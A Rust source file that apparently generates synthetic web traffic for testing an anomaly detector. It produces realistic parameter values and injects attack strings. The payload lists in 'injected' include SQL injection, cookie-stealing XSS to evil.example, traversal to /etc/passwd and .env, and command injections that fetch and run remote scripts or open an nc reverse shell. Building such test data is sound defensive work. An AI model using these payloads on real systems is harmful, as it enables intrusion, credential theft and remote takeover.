//! Realistic values of every [`ParamFormat`], and the malicious or
//! out-of-format values injected into test traffic.

use rampart_learn::ParamFormat;

use crate::rng::Rng;

/// How a parameter's values are drawn. [`ValueGen::Format`] draws a typical
/// value of the parameter's format; the others narrow it down.
#[derive(Debug, Clone, PartialEq, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ValueGen {
    /// A typical value of the parameter's format.
    Format,
    /// An integer in `lo..=hi`.
    Int(i64, i64),
    /// A decimal in `lo..=hi` with this many decimal places.
    Decimal(f64, f64, u8),
    /// One of a fixed set of members (enumerations, booleans written a
    /// particular way).
    Choice(Vec<String>),
    /// Lowercase hex of this many digits.
    Hex(usize),
    /// Standard base64 of this many random bytes.
    Base64(usize),
    /// A date without a time (`2024-05-12`).
    Date,
    /// A card expiry, `MM/YY`.
    Expiry,
    /// A card security code (3 digits).
    Cvv,
    /// A search query of one to four words.
    Search,
    /// A user name of the application's users (or a new one when
    /// registering).
    Username,
    /// An e-mail address used to sign in (the application's users').
    LoginEmail,
    /// A password (the application's users' when signing in).
    Password,
    /// A postal address (free text).
    Address,
    /// An object id of an application collection (see
    /// [`crate::app::App::objects`]).
    Object(String),
}

const FIRST: &[&str] = &[
    "Alice", "Bob", "Carla", "David", "Emma", "Felix", "Grace", "Hugo", "Ines", "Jonas", "Karin",
    "Liam", "Maria", "Noah", "Olivia", "Pablo", "Quinn", "Rosa", "Samir", "Tara", "Umar", "Vera",
    "Wei", "Xenia", "Yusuf", "Zoe", "Anna", "Lukas", "Sofia", "Mateo", "Chloe", "Arjun", "Mei",
    "Oskar", "Leila", "Thomas", "Julia", "Kenji", "Amara", "Nils",
];
const LAST: &[&str] = &[
    "Martin", "Schmidt", "Garcia", "Rossi", "Nowak", "Smith", "Dubois", "Jensen", "Kowalski",
    "Silva", "Tanaka", "Okafor", "Novak", "Fischer", "Lopez", "Meyer", "Hansen", "Moreau",
    "Bianchi", "Khan", "Nguyen", "Brown", "Wilson", "Costa", "Weber", "Murphy", "Larsen",
    "Ivanova", "Haddad", "Olsen",
];
const DOMAINS: &[&str] = &[
    "gmail.com",
    "outlook.com",
    "yahoo.com",
    "proton.me",
    "example.org",
    "mail.de",
    "icloud.com",
    "gmx.net",
    "company.io",
    "fastmail.com",
    "web.de",
    "acme-corp.com",
];
/// Common words, for text, slugs and search queries.
pub const WORDS: &[&str] = &[
    "red", "blue", "green", "black", "white", "running", "shoes", "jacket", "coffee", "table",
    "lamp", "garden", "wireless", "speaker", "organic", "tea", "leather", "wallet", "travel",
    "bag", "summer", "winter", "classic", "vintage", "modern", "kitchen", "knife", "steel", "wool",
    "socks", "camera", "lens", "phone", "case", "charger", "desk", "chair", "book", "guide",
    "mountain", "bike", "helmet", "yoga", "mat", "watch", "silver", "ring", "candle", "soap",
    "pillow", "blanket", "kids", "toy", "puzzle", "board", "game", "vinyl", "record", "print",
];
const SENTENCE_WORDS: &[&str] = &[
    "the",
    "a",
    "is",
    "was",
    "really",
    "very",
    "good",
    "great",
    "quality",
    "delivery",
    "fast",
    "slow",
    "would",
    "buy",
    "again",
    "not",
    "what",
    "expected",
    "works",
    "fine",
    "after",
    "two",
    "weeks",
    "price",
    "for",
    "this",
    "and",
    "but",
    "my",
    "order",
    "arrived",
    "late",
    "nice",
    "color",
    "size",
    "fits",
    "perfectly",
    "thanks",
    "support",
    "team",
    "helpful",
    "please",
    "update",
    "the",
    "invoice",
    "meeting",
    "tomorrow",
    "project",
    "status",
    "issue",
    "fixed",
];
const STREETS: &[&str] = &[
    "Main Street",
    "Hauptstrasse",
    "Rue de la Paix",
    "Oak Avenue",
    "Calle Mayor",
    "High Street",
    "Maple Drive",
    "Via Roma",
    "Park Lane",
    "Bahnhofstrasse",
];
const CITIES: &[&str] = &[
    "Berlin",
    "Paris",
    "Madrid",
    "London",
    "Springfield",
    "Rome",
    "Vienna",
    "Lyon",
    "Austin",
    "Hamburg",
    "Leeds",
    "Porto",
];
const TLDS: &[&str] = &["com", "org", "io", "net", "de", "co.uk", "dev"];

fn hex_digits(rng: &mut Rng, n: usize) -> String {
    const H: &[u8] = b"0123456789abcdef";
    (0..n).map(|_| char::from(*rng.pick(H))).collect()
}

/// Standard base64 with padding.
pub fn base64(bytes: &[u8], url_safe: bool) -> String {
    let alphabet: &[u8] = if url_safe {
        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    } else {
        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    };
    let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
    for chunk in bytes.chunks(3) {
        let b = [
            chunk[0],
            chunk.get(1).copied().unwrap_or(0),
            chunk.get(2).copied().unwrap_or(0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(char::from(alphabet[((n >> (18 - 6 * i)) & 63) as usize]));
            } else if !url_safe {
                out.push('=');
            }
        }
    }
    out
}

fn random_bytes(rng: &mut Rng, n: usize) -> Vec<u8> {
    (0..n).map(|_| rng.next_u64() as u8).collect()
}

/// A random version 4 UUID, lowercase.
pub fn uuid(rng: &mut Rng) -> String {
    let h = hex_digits(rng, 32);
    let variant = *rng.pick(&['8', '9', 'a', 'b']);
    format!(
        "{}-{}-4{}-{}{}-{}",
        &h[0..8],
        &h[8..12],
        &h[13..16],
        variant,
        &h[17..20],
        &h[20..32]
    )
}

/// A person's full name.
pub fn person_name(rng: &mut Rng) -> String {
    format!("{} {}", rng.pick(FIRST), rng.pick(LAST))
}

/// A user name derived from a person's name (`alice`, `j.smith`, `mkowalski`).
pub fn username(rng: &mut Rng) -> String {
    let f = rng.pick(FIRST).to_ascii_lowercase();
    let l = rng.pick(LAST).to_ascii_lowercase();
    match rng.below(4) {
        0 => f,
        1 => format!("{}.{l}", &f[..1]),
        2 => format!("{}{l}", &f[..1]),
        _ => format!("{f}_{l}"),
    }
}

/// An e-mail address.
pub fn email(rng: &mut Rng) -> String {
    let f = rng.pick(FIRST).to_ascii_lowercase();
    let l = rng.pick(LAST).to_ascii_lowercase();
    let local = match rng.below(4) {
        0 => format!("{f}.{l}"),
        1 => format!("{}{l}", &f[..1]),
        2 => format!("{f}{}", rng.range(1, 99)),
        _ => format!("{f}_{l}"),
    };
    format!("{local}@{}", rng.pick(DOMAINS))
}

/// `n` words joined by `sep`.
pub fn words(rng: &mut Rng, n: usize, sep: &str) -> String {
    (0..n)
        .map(|_| *rng.pick(WORDS))
        .collect::<Vec<_>>()
        .join(sep)
}

/// A URL slug of two to five words (`red-running-shoes`).
pub fn slug(rng: &mut Rng) -> String {
    let n = rng.range(2, 5) as usize;
    words(rng, n, "-")
}

fn sentence(rng: &mut Rng, min: i64, max: i64) -> String {
    let n = rng.range(min, max) as usize;
    let mut s = (0..n)
        .map(|_| *rng.pick(SENTENCE_WORDS))
        .collect::<Vec<_>>()
        .join(" ");
    if let Some(first) = s.get(..1) {
        let up = first.to_ascii_uppercase();
        s.replace_range(..1, &up);
    }
    s.push(*rng.pick(&['.', '.', '!', '?']));
    s
}

fn free_text(rng: &mut Rng) -> String {
    let n = rng.range(1, 3);
    (0..n)
        .map(|_| sentence(rng, 3, 12))
        .collect::<Vec<_>>()
        .join(" ")
}

fn date(rng: &mut Rng) -> (i64, i64, i64) {
    (rng.range(2019, 2025), rng.range(1, 12), rng.range(1, 28))
}

fn datetime(rng: &mut Rng) -> String {
    let (y, m, d) = date(rng);
    let (h, mi, s) = (rng.range(0, 23), rng.range(0, 59), rng.range(0, 59));
    match rng.below(3) {
        0 => format!("{y:04}-{m:02}-{d:02}T{h:02}:{mi:02}:{s:02}Z"),
        1 => format!("{y:04}-{m:02}-{d:02}T{h:02}:{mi:02}:{s:02}+02:00"),
        _ => format!(
            "{y:04}-{m:02}-{d:02}T{h:02}:{mi:02}:{s:02}.{:03}Z",
            rng.range(0, 999)
        ),
    }
}

fn phone(rng: &mut Rng) -> String {
    let d = |rng: &mut Rng, n: usize| -> String {
        (0..n)
            .map(|_| char::from(b'0' + rng.below(10) as u8))
            .collect()
    };
    match rng.below(4) {
        0 => format!("+1 ({}) {}-{}", rng.range(201, 989), d(rng, 3), d(rng, 4)),
        1 => format!("+49 {} {}", rng.range(30, 89), d(rng, 7)),
        2 => format!("+44{}", d(rng, 10)),
        _ => format!("({}) {}-{}", rng.range(201, 989), d(rng, 3), d(rng, 4)),
    }
}

/// A card number that passes the Luhn check, sometimes grouped by spaces.
pub fn card(rng: &mut Rng) -> String {
    let prefix: &[u8] = match rng.below(3) {
        0 => b"4",
        1 => b"51",
        _ => b"37",
    };
    let len = if prefix == b"37" { 15 } else { 16 };
    let mut digits: Vec<u8> = prefix.iter().map(|b| b - b'0').collect();
    while digits.len() < len - 1 {
        digits.push(rng.below(10) as u8);
    }
    // Luhn check digit.
    let mut sum = 0u32;
    for (i, d) in digits.iter().rev().enumerate() {
        let mut x = u32::from(*d);
        if i % 2 == 0 {
            x *= 2;
            if x > 9 {
                x -= 9;
            }
        }
        sum += x;
    }
    digits.push(((10 - sum % 10) % 10) as u8);
    let s: String = digits.iter().map(|d| char::from(b'0' + d)).collect();
    if rng.chance(0.3) && len == 16 {
        format!("{} {} {} {}", &s[0..4], &s[4..8], &s[8..12], &s[12..16])
    } else {
        s
    }
}

fn url(rng: &mut Rng) -> String {
    let host = format!("{}.{}", words(rng, 1, ""), rng.pick(TLDS));
    let sub = *rng.pick(&["www.", "", "shop.", "blog.", "cdn."]);
    let path = match rng.below(3) {
        0 => String::new(),
        1 => format!("/{}", slug(rng)),
        _ => format!(
            "/{}/{}?ref={}",
            words(rng, 1, ""),
            rng.range(1, 999),
            words(rng, 1, "")
        ),
    };
    format!("https://{sub}{host}{path}")
}

fn ip(rng: &mut Rng) -> String {
    if rng.chance(0.85) {
        format!(
            "{}.{}.{}.{}",
            rng.range(1, 223),
            rng.range(0, 255),
            rng.range(0, 255),
            rng.range(1, 254)
        )
    } else {
        format!(
            "2001:db8:{:x}:{:x}::{:x}",
            rng.below(0xffff),
            rng.below(0xffff),
            rng.range(1, 0xffff)
        )
    }
}

/// A signed-looking JWT (HS256 or RS256 header, a claims payload, a random
/// signature).
pub fn jwt(rng: &mut Rng) -> String {
    let alg = *rng.pick(&["HS256", "RS256", "ES256"]);
    let header = format!(r#"{{"alg":"{alg}","typ":"JWT"}}"#);
    let iat = 1_700_000_000 + rng.below(50_000_000);
    let payload = format!(
        r#"{{"sub":"{}","name":"{}","iat":{iat},"exp":{},"scope":"{}"}}"#,
        rng.range(1, 99_999),
        person_name(rng),
        iat + 3600,
        rng.pick(&["read", "read write", "admin"])
    );
    let sig = random_bytes(rng, if alg == "HS256" { 32 } else { 64 });
    format!(
        "{}.{}.{}",
        base64(header.as_bytes(), true),
        base64(payload.as_bytes(), true),
        base64(&sig, true)
    )
}

fn json_value(rng: &mut Rng) -> String {
    match rng.below(4) {
        0 => format!(
            r#"{{"theme":"{}","lang":"{}","notifications":{}}}"#,
            rng.pick(&["dark", "light", "auto"]),
            rng.pick(&["en", "de", "fr", "es"]),
            rng.pick(&["true", "false"])
        ),
        1 => format!(
            r#"[{{"id":{},"qty":{}}},{{"id":{},"qty":{}}}]"#,
            rng.range(1, 500),
            rng.range(1, 5),
            rng.range(1, 500),
            rng.range(1, 5)
        ),
        2 => format!(
            r#"{{"source":"{}","campaign":"{}","ts":{}}}"#,
            rng.pick(&["newsletter", "ads", "partner"]),
            slug(rng),
            1_700_000_000 + rng.below(50_000_000)
        ),
        _ => format!(
            r#"{{"filters":{{"color":"{}","size":"{}"}},"page":{}}}"#,
            rng.pick(WORDS),
            rng.pick(&["S", "M", "L", "XL"]),
            rng.range(1, 20)
        ),
    }
}

fn xml_value(rng: &mut Rng) -> String {
    match rng.below(3) {
        0 => format!(
            r#"<?xml version="1.0" encoding="UTF-8"?><order><id>{}</id><qty>{}</qty></order>"#,
            rng.range(1, 9999),
            rng.range(1, 9)
        ),
        1 => format!(
            r#"<?xml version="1.0"?><settings><theme>{}</theme><lang>{}</lang></settings>"#,
            rng.pick(&["dark", "light"]),
            rng.pick(&["en", "de", "fr"])
        ),
        _ => format!(
            r#"<?xml version="1.0" encoding="UTF-8"?><note><to>{}</to><body>{}</body></note>"#,
            person_name(rng),
            sentence(rng, 3, 8)
        ),
    }
}

fn html_value(rng: &mut Rng) -> String {
    match rng.below(3) {
        0 => format!("<p>{}</p>", sentence(rng, 4, 12)),
        1 => format!(
            "<p>{} <strong>{}</strong></p><ul><li>{}</li><li>{}</li></ul>",
            sentence(rng, 3, 8),
            words(rng, 2, " "),
            words(rng, 2, " "),
            words(rng, 2, " ")
        ),
        _ => format!(
            "<h2>{}</h2><p>{} <a href=\"{}\">{}</a></p>",
            words(rng, 3, " "),
            sentence(rng, 4, 10),
            url(rng),
            words(rng, 1, "")
        ),
    }
}

fn file_path(rng: &mut Rng) -> String {
    let ext = *rng.pick(&["pdf", "csv", "txt", "png", "jpg", "docx", "xlsx", "json"]);
    let (y, m, _) = date(rng);
    match rng.below(5) {
        0 => format!(
            "/var/data/{}/{y}-{m:02}.{ext}",
            rng.pick(&["reports", "exports"])
        ),
        1 => format!(
            "/home/{}/documents/{}.{ext}",
            username(rng).replace('.', ""),
            slug(rng)
        ),
        2 => format!("/uploads/{y}/{m:02}/{}.{ext}", slug(rng)),
        3 => format!("./files/{}.{ext}", slug(rng)),
        _ => format!("/srv/share/{}/{}.{ext}", words(rng, 1, ""), slug(rng)),
    }
}

fn password(rng: &mut Rng) -> String {
    let word: &&str = rng.pick(WORDS);
    match rng.below(3) {
        0 => format!(
            "{}{}{}",
            capitalise(word),
            rng.range(10, 2024),
            rng.pick(&["!", "#", "?", "$"])
        ),
        1 => format!(
            "{}-{}-{}",
            rng.pick(WORDS),
            rng.pick(WORDS),
            rng.pick(WORDS)
        ),
        _ => base64(&random_bytes(rng, 12), false),
    }
}

fn capitalise(s: &str) -> String {
    let mut c = s.chars();
    match c.next() {
        Some(f) => f.to_uppercase().chain(c).collect(),
        None => String::new(),
    }
}

/// A typical value of `format`.
pub fn value_of(format: ParamFormat, rng: &mut Rng) -> String {
    match format {
        ParamFormat::Integer => match rng.below(3) {
            0 => rng.range(1, 10).to_string(),
            1 => rng.range(1, 500).to_string(),
            _ => rng.range(1000, 999_999).to_string(),
        },
        ParamFormat::Decimal => format!("{:.2}", rng.range(50, 99_999) as f64 / 100.0),
        ParamFormat::Boolean => rng.pick(&["true", "false"]).to_string(),
        ParamFormat::Enumeration => rng
            .pick(&["asc", "desc", "active", "pending", "closed"])
            .to_string(),
        ParamFormat::Uuid => uuid(rng),
        ParamFormat::Hex => {
            let n = *rng.pick(&[16, 24, 32, 40, 64]);
            hex_digits(rng, n)
        }
        ParamFormat::Base64 => {
            let n = rng.range(12, 48) as usize;
            base64(&random_bytes(rng, n), false)
        }
        ParamFormat::Jwt => jwt(rng),
        ParamFormat::Email => email(rng),
        ParamFormat::Url => url(rng),
        ParamFormat::Ip => ip(rng),
        ParamFormat::DateTime => datetime(rng),
        ParamFormat::Phone => phone(rng),
        ParamFormat::Card => card(rng),
        ParamFormat::Name => person_name(rng),
        ParamFormat::FreeText => free_text(rng),
        ParamFormat::Json => json_value(rng),
        ParamFormat::Xml => xml_value(rng),
        ParamFormat::Html => html_value(rng),
        ParamFormat::FilePath => file_path(rng),
    }
}

impl ValueGen {
    /// A value for a parameter of `format` drawn by this generator.
    /// [`ValueGen::Username`], [`ValueGen::LoginEmail`], [`ValueGen::Password`]
    /// and [`ValueGen::Object`] give fresh values here; the traffic
    /// generator substitutes the application's users and objects.
    pub fn value(&self, format: ParamFormat, rng: &mut Rng) -> String {
        match self {
            ValueGen::Format | ValueGen::Object(_) => value_of(format, rng),
            ValueGen::Int(lo, hi) => rng.range(*lo, *hi).to_string(),
            ValueGen::Decimal(lo, hi, places) => {
                let x = lo + (hi - lo) * rng.f64();
                format!("{x:.*}", usize::from(*places))
            }
            ValueGen::Choice(xs) if !xs.is_empty() => rng.pick(xs).clone(),
            ValueGen::Choice(_) => value_of(format, rng),
            ValueGen::Hex(n) => hex_digits(rng, *n),
            ValueGen::Base64(n) => base64(&random_bytes(rng, *n), false),
            ValueGen::Date => {
                let (y, m, d) = date(rng);
                format!("{y:04}-{m:02}-{d:02}")
            }
            ValueGen::Expiry => format!("{:02}/{}", rng.range(1, 12), rng.range(27, 33)),
            ValueGen::Cvv => format!("{:03}", rng.range(0, 999)),
            ValueGen::Search => {
                let n = rng.range(1, 4) as usize;
                words(rng, n, " ")
            }
            ValueGen::Username => username(rng),
            ValueGen::LoginEmail => email(rng),
            ValueGen::Password => password(rng),
            ValueGen::Address => format!(
                "{} {}, {} {}",
                rng.range(1, 250),
                rng.pick(STREETS),
                rng.range(10_000, 99_999),
                rng.pick(CITIES)
            ),
        }
    }
}

/// A family of injected values.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum InjectionKind {
    /// SQL injection.
    Sqli,
    /// Cross-site scripting.
    Xss,
    /// Path traversal.
    Traversal,
    /// OS command injection.
    Command,
    /// Not an attack, but not of the parameter's format (letters in an
    /// integer, markup in a name).
    OutOfFormat,
}

impl InjectionKind {
    /// Every kind.
    pub const ALL: [InjectionKind; 5] = [
        InjectionKind::Sqli,
        InjectionKind::Xss,
        InjectionKind::Traversal,
        InjectionKind::Command,
        InjectionKind::OutOfFormat,
    ];
}

/// A malicious or out-of-format value of `kind` replacing `normal`, a
/// normal value of a parameter of `format`.
pub fn injected(kind: InjectionKind, format: ParamFormat, normal: &str, rng: &mut Rng) -> String {
    match kind {
        InjectionKind::Sqli => {
            let p = *rng.pick(&[
                "' OR '1'='1",
                "' OR 1=1-- -",
                " UNION SELECT username, password FROM users--",
                "'; DROP TABLE orders; --",
                "' AND SLEEP(5)-- ",
                "1 AND 1=CONVERT(int,(SELECT @@version))",
                "') OR ('a'='a",
                "' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables-- ",
            ]);
            if p.starts_with(' ') || p.starts_with('\'') {
                format!("{normal}{p}")
            } else {
                p.to_string()
            }
        }
        InjectionKind::Xss => rng
            .pick(&[
                "<script>alert(document.cookie)</script>",
                "\"><img src=x onerror=alert(1)>",
                "<svg/onload=fetch('//evil.example/'+document.cookie)>",
                "javascript:alert(1)",
                "<iframe src=\"javascript:alert('xss')\"></iframe>",
                "'><body onload=alert(String.fromCharCode(88,83,83))>",
            ])
            .to_string(),
        InjectionKind::Traversal => rng
            .pick(&[
                "../../../../etc/passwd",
                "..%2f..%2f..%2fetc%2fshadow",
                "....//....//....//etc/passwd",
                "..\\..\\..\\windows\\win.ini",
                "/proc/self/environ",
                "../../../../../../var/www/.env",
            ])
            .to_string(),
        InjectionKind::Command => {
            let p = *rng.pick(&[
                "; cat /etc/passwd",
                "| id",
                "$(curl http://203.0.113.7/x.sh | sh)",
                "`whoami`",
                "&& nc -e /bin/sh 198.51.100.3 4444",
                "; wget http://203.0.113.9/bot -O /tmp/b; sh /tmp/b",
            ]);
            format!("{normal}{p}")
        }
        InjectionKind::OutOfFormat => match format {
            ParamFormat::Integer | ParamFormat::Decimal => rng
                .pick(&["abc", "12abc", "1e999", "NaN", "one", "0x1A"])
                .to_string(),
            ParamFormat::Name | ParamFormat::FreeText => {
                format!("{normal}<script>x</script>")
            }
            ParamFormat::Email => rng.pick(&["not-an-email", "a@", "@@@"]).to_string(),
            ParamFormat::Uuid | ParamFormat::Hex => "zzzz-not-an-id".to_string(),
            ParamFormat::Boolean | ParamFormat::Enumeration => {
                rng.pick(&["maybe", "2", "-1", "null"]).to_string()
            }
            _ => format!("{}{}", normal, "%00%ff\u{202e}"),
        },
    }
}
